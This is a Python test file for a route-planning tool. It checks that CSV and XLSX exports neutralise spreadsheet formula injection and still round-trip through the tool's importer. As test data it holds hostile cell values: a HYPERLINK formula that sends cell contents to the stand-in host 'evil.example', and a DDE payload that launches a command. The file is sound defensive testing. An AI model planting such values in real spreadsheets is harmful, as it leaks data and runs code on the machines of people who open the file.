"""Exports are safe to open in a spreadsheet: a cell that would start a formula is neutralised
(CSV: a leading apostrophe; XLSX: a text cell, never a formula), and our own importer reads
the exported file back to the same values."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import openpyxl
import pytest

from routeplanner.io.accounts import accounts_to_csv, read_accounts_bytes, write_accounts_xlsx
from routeplanner.io.reps import read_reps_bytes, reps_to_csv
from routeplanner.io.tables import read_table_bytes, render_csv, spreadsheet_safe
from routeplanner.io.territory_export import kpis_csv, territories_csv
from routeplanner.model import Account, Territory
from routeplanner.territories.metrics import PlanKpis, TerritoryKpis
from tests.conftest import small_region

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TRIGGERS = [EVIL, "+49 6221 12345", "-2+3", "@SUM(A1:A9)", "\tfoo", "\rbar"]


@pytest.mark.parametrize("cell", TRIGGERS)
def test_a_cell_starting_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Bäckerei", "-33.918", "-12", "1e-3", "a=b", "'quoted"])
def test_other_cells_and_negative_numbers_stay_as_they_are(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


def _evil_accounts() -> list[Account]:
    accounts, _ = small_region()
    first = dataclasses.replace(
        accounts[0], name=EVIL, notes="+cmd|' /C calc'!A0", contact="@SUM(1+1)", phone="-1+1"
    )
    return [first, *accounts[1:]]


def test_account_csv_neutralises_and_round_trips() -> None:
    accounts = _evil_accounts()
    text = accounts_to_csv(accounts)
    assert "\n'" not in text  # the id column comes first and is harmless
    quoted = EVIL.replace('"', '""')
    assert "\"'" + quoted + '"' in text
    assert ",'@SUM(1+1)," in text
    assert ",'-1+1," in text
    back = read_accounts_bytes(text.encode(), source="export.csv")
    assert back[0].name == EVIL
    assert back[0].contact == "@SUM(1+1)"
    assert back[0].phone == "-1+1"
    assert back[0].notes == "+cmd|' /C calc'!A0"


def test_rep_csv_neutralises_and_round_trips() -> None:
    _, reps = small_region()
    evil = [dataclasses.replace(reps[0], name="=1+1", home_address="@home")]
    text = reps_to_csv(evil)
    assert "'=1+1" in text
    assert read_reps_bytes(text.encode(), source="reps.csv")[0].name == "=1+1"


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "accounts.xlsx"
    write_accounts_xlsx(_evil_accounts(), path)
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("name") + 1)
    assert cell.data_type == "s"
    assert cell.value == EVIL
    assert read_table_bytes(path.read_bytes(), source="a.xlsx").rows[0].get("name") == EVIL


def test_territory_exports_neutralise() -> None:
    accounts = _evil_accounts()
    territories = [Territory(territory_id="T1", name="=cmd", rep_id="R1", account_ids=("A1", "A2"))]
    text = territories_csv(territories, accounts)
    assert "'=cmd" in text
    assert f"'{EVIL[:10]}" in text
    figures = TerritoryKpis(
        territory_id="=cmd",
        rep_id="@R1",
        accounts=2,
        visits_per_week=1.5,
        workload_h=3.0,
        capacity_h=40.0,
        utilisation_pct=7.5,
        drive_h=1.0,
        drive_share_pct=25.0,
        value=0.0,
        balance_dev_pct=-10.0,
        mean_travel_to_home_s=600.0,
        enclave_accounts=0,
    )
    kpis = PlanKpis(
        territories=(figures,),
        horizon_days=7,
        accounts=2,
        unassigned_accounts=0,
        max_workload_dev_pct=10.0,
        mean_travel_to_home_s=600.0,
        nearest_home_travel_s=500.0,
        compactness_ratio=1.2,
        contiguity_violations=0,
        total_workload_h=3.0,
        total_capacity_h=40.0,
    )
    row = kpis_csv(kpis).splitlines()[1]
    assert row.startswith("'=cmd,'@R1,2,")
    assert ",-10.00," in row  # a negative number stays a number


def test_render_csv_is_the_one_writer() -> None:
    assert render_csv(["a"], [["=1"], ["-1"]]) == "a\n'=1\n-1\n"
